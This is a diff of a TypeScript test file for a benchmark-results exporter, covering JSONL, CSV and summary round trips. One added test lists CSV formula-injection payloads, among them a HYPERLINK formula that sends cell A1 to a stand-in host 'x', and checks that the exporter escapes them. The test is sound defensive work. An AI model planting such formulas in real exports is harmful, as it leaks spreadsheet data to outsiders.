@@ -1,7 +1,8 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import {
-  makeResult,
+  promptRecordFor,
+  resultFrom,
   parseBenchmarkFile,
   parseOfficialResults,
   PyFloat,
@@ -9,6 +10,12 @@ import {
   toCsv,
   toOfficialJsonl,
   toSummaryJson,
+  readSummaryFile,
+  modelDigest,
+  OFFICIAL_CONFIG,
+  runIdentity,
+  runSettings,
+  samplesDigest,
 } from './index';
 
 describe('pythonJsonDumps', () => {
@@ -34,17 +41,23 @@ describe('exports', () => {
   );
   const samples = parsed.samples.slice(0, 3);
   const results = samples.map((s, i) =>
-    makeResult(s, {
+    resultFrom(s, {
       response: i === 2 ? null : `<think>t</think><answer>${i === 0 ? s.gold : 'Z'}</answer>`,
+      modelPrompt: i === 2 ? null : promptRecordFor(s, 'as-is', 16, 900),
       error: i === 2 ? { stage: 'clip', message: 'missing' } : null,
     }),
   );
 
   it('writes the official results lines for finished questions', () => {
-    const text = toOfficialJsonl(samples, results, 'as-is');
+    const { jsonl: text, refused } = toOfficialJsonl(samples, results);
+    expect(refused).toEqual([]);
     const lines = text.trimEnd().split('\n');
     expect(lines).toHaveLength(2);
-    const first = JSON.parse(lines[0]!);
+    const first = JSON.parse(lines[0]!) as {
+      sample_id: unknown;
+      solution: string;
+      prompt: { content: { type: string }[] }[];
+    };
     expect(Object.keys(first)).toEqual([
       'sample_id',
       'prompt',
@@ -57,11 +70,7 @@ describe('exports', () => {
     expect(first.solution).toBe(`<answer>${samples[0]!.gold}.</answer>`);
     expect(lines[0]).toMatch(/"reward": 1\.0\}$/);
     expect(lines[1]).toMatch(/"reward": 0\.0\}$/);
-    expect(first.prompt[0].content.map((c: { type: string }) => c.type)).toEqual([
-      'video',
-      'image',
-      'text',
-    ]);
+    expect(first.prompt[0]!.content.map((c) => c.type)).toEqual(['video', 'image', 'text']);
     // Round trip through the importer.
     const back = parseOfficialResults('r.jsonl', text);
     expect(back.errors).toEqual([]);
@@ -74,14 +83,46 @@ describe('exports', () => {
     expect(rows).toHaveLength(4);
     expect(rows[0]!.split(',')[0]).toBe('sample_id');
     expect(rows[3]).toContain('clip: missing');
-    const summary = JSON.parse(
-      toSummaryJson(
-        { model: 'm', dtype: 'q4', device: 'wasm', benchmark: 'b', settings: {} },
-        results,
+    const settings = runSettings(
+      runIdentity(
+        { id: 'b', questions: 3, digest: samplesDigest(samples) },
+        { label: 'm', dtype: 'q4', digest: modelDigest([]), files: [] },
+        OFFICIAL_CONFIG,
       ),
+      { subset: { kind: 'all' }, device: 'wasm' },
     );
+    const run = { settings, devices: ['wasm'], selection: {}, startedAt: null, finishedAt: null };
+    const summary = readSummaryFile('summary.json', toSummaryJson(run, results));
+    expect(() => readSummaryFile('bad.json', '{"questions": -1}')).toThrow(/^bad\.json run: /);
+    expect(summary.run.settings.key).toBe(settings.key);
     expect(summary.summary.total.byMode.official).toMatchObject({ n: 2, correct: 1 });
     expect(summary.summary.total.errors).toBe(1);
+  });
+
+  it('neutralises CSV cells a spreadsheet would run as formulas (OWASP), keeps numbers', () => {
+    const base = results[0]!;
+    const hostile = [
+      '=HYPERLINK("http://x/?"&A1,"click")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+    ];
+    const csv = toCsv(
+      hostile.map((response, k) => ({
+        ...base,
+        sampleId: k === 0 ? '=1+1' : `s${k}`,
+        response,
+        letterLogprobs: [-1.5, -2, -3, -4] as [number, number, number, number],
+      })),
+    );
+    const rows = csv.trimEnd().split('\r\n').slice(1);
+    rows.forEach((row, k) => {
+      expect(row.endsWith(`,"'${hostile[k]!.replace(/"/g, '""')}"`), row).toBe(true);
+      expect(row).toContain(',-1.5,-2,-3,-4,');
+    });
+    expect(rows[0]!.startsWith(`"'=1+1",`)).toBe(true);
   });
 
   it('reports bad lines of an imported results file', () => {
